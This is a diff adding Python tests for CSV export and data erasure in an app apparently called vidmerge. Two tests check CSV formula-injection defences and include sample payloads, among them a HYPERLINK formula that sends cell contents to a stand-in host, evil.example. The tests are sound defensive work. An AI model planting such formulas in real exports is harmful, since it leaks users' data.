@@ -110,6 +110,19 @@ def test_encoding_names_callers_write(given: str, name: str) -> None:
         csvfile.encoding_name("latin-1")
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-1234", "@SUM(A1)", "\tx", "\r=1"]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
+    """OWASP's CSV injection advice: such a cell gets a leading ' and every text cell is quoted;
+    vidmerge's own figures, passed as numbers, are written as numbers (a negative one too)."""
+    written = b"".join(csvfile.write([[*FORMULAS, "plain", -5, 0.25, None]], "utf-8")).decode()
+    assert written == ('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")","\'+1+2","\'-1234","\'@SUM(A1)",'
+                       '"\'\tx","\'\r=1","plain",-5,0.25,""\r\n')  # fmt: skip
+    (row,) = csv.reader(io.StringIO(written, newline=""))
+    assert row[:6] == ["'" + f for f in FORMULAS]
+
+
 # -- checking rows --------------------------------------------------------------------------------
 
 
@@ -328,6 +341,36 @@ def test_a_launch_that_finds_its_campaign_erased_erases_what_it_made(rt: Runtime
     assert rt.db.renders.of_campaign(done.campaign.id) == []
 
 
+def _on_disk(rt: Runtime, value: str) -> list[str]:
+    """Files of the data dir (SQLite's file and WAL included) holding `value`."""
+    root = rt.settings.data_dir
+    return [str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() and value.encode() in p.read_bytes()]
+
+
+def test_an_erased_customer_leaves_no_identifier_in_the_campaign_or_its_results(rt: Runtime) -> None:
+    """By external id (a row launched, a row not launched yet, a row replaced) and by render id:
+    each row stays an anonymous `erased` count; results.csv and the database keep no identifier."""
+    rows = [["ext-camp-7702", "消去 太郎", "1"], ["ext-camp-by-id", "消去 次郎", "2"], ["ext-camp-keep", "残る", "3"]]
+    done = campaigns.upload(rt, "small", sheet(rows).encode(), mapping=MAPPING)
+    campaign_id = done.campaign.id
+    campaigns.start(rt, campaign_id)
+    launched(rt, campaign_id)
+    changed = [["ext-camp-7702", "消去 太郎", "9"], ["ext-camp-later", "後で 三郎", "4"]]
+    campaigns.upload(rt, "small", sheet(changed).encode(), mapping=MAPPING, campaign_id=campaign_id)  # not launched
+    by_id = next(r for r in rt.db.renders.of_campaign(campaign_id) if r.external_id == "ext-camp-by-id")
+    erased = [renders.erase_external(rt.db, rt.registry, "ext-camp-7702"),
+              renders.erase_external(rt.db, rt.registry, "ext-camp-later"),  # never launched: nor will it be
+              renders.erase(rt.db, rt.registry, by_id)]  # fmt: skip
+    assert launched(rt, campaign_id) == []
+    results = [(r.external_id, r.status) for r in campaigns.results(rt, campaigns.get(rt, campaign_id))]
+    assert sorted(results) == [("", "erased"), ("", "erased"), ("", "erased"), ("ext-camp-keep", "queued")]
+    progress = campaigns.progress(rt, campaigns.get(rt, campaign_id))
+    assert (progress["total"], progress["erased"], progress["invalid"]) == (4, 3, 0)
+    for gone in ("ext-camp-7702", "ext-camp-by-id", "ext-camp-later", "後で 三郎", "消去 次郎"):
+        assert _on_disk(rt, gone) == [], gone
+    assert erased[:2] == [(1, 2), (0, 1)]  # (renders, rows): the old row and its replacement, then one row
+
+
 # -- over HTTP, and the command -------------------------------------------------------------------
 
 
@@ -383,11 +426,29 @@ def test_campaign_http_answers(small_api: Api) -> None:
     assert (state["status"], state["total"], state["done"], state["invalid"]) == ("done", 1, 1, 1)
     results = client.get(f"{campaign}/results.csv", params={"status": "invalid", "encoding": "cp932"})
     assert results.headers["content-type"] == "text/csv; charset=cp932"
-    assert results.content.decode("cp932").splitlines()[1].startswith("h-2,,,,,,invalid,金額: ")
+    assert results.content.decode("cp932").splitlines()[1].startswith('"h-2","","","","","","invalid","金額: ')
     bad = client.post("/v1/campaigns", data={**form, "mapping": "[1]"}, files=files)
     assert bad.status_code == 422 and bad.json()["problems"][0]["where"] == "mapping"
     assert client.delete(campaign).json() == {"erased": 1}
     assert client.get(campaign).status_code == 404
+
+
+def test_results_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(small_api: Api) -> None:
+    """An upload whose ids (and a column named in a row's error) start with = + - @ tab or CR:
+    each comes back in results.csv as text, a ' first (the reader strips the ids' blanks)."""
+    ids = ['=HYPERLINK("http://evil.example/","x")', "+1+2", "-1234", "@SUM(A1)", "\t=A1", "\r+A1"]
+    rows = [[external_id, "数式", "1"] for external_id in ids] + [["ok-1", "数式", "many"]]
+    header = ("顧客ID", "氏名", "@金額")
+    mapping = {"顧客ID": "external_id", "氏名": "name", "@金額": "amount"}
+    files = {"file": ("f.csv", sheet(rows, header=header).encode(), "text/csv")}
+    created = small_api.client.post("/v1/campaigns", data={"template_id": "small", "mapping": json.dumps(mapping)},
+                                    files=files)  # fmt: skip
+    assert created.status_code == 201, created.text
+    answer = small_api.client.get(f"/v1/campaigns/{created.json()['campaign_id']}/results.csv")
+    lines = list(csv.reader(io.StringIO(answer.content.decode("utf-8"), newline="")))[1:]
+    assert [line[0] for line in lines] == ["'" + i.strip() for i in ids] + ["ok-1"]
+    assert lines[-1][7].startswith("'@金額: ")  # the error names the column the marketer wrote
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)
 
 
 def test_a_campaign_file_past_its_bounds_is_refused_naming_it(small_api: Api) -> None:
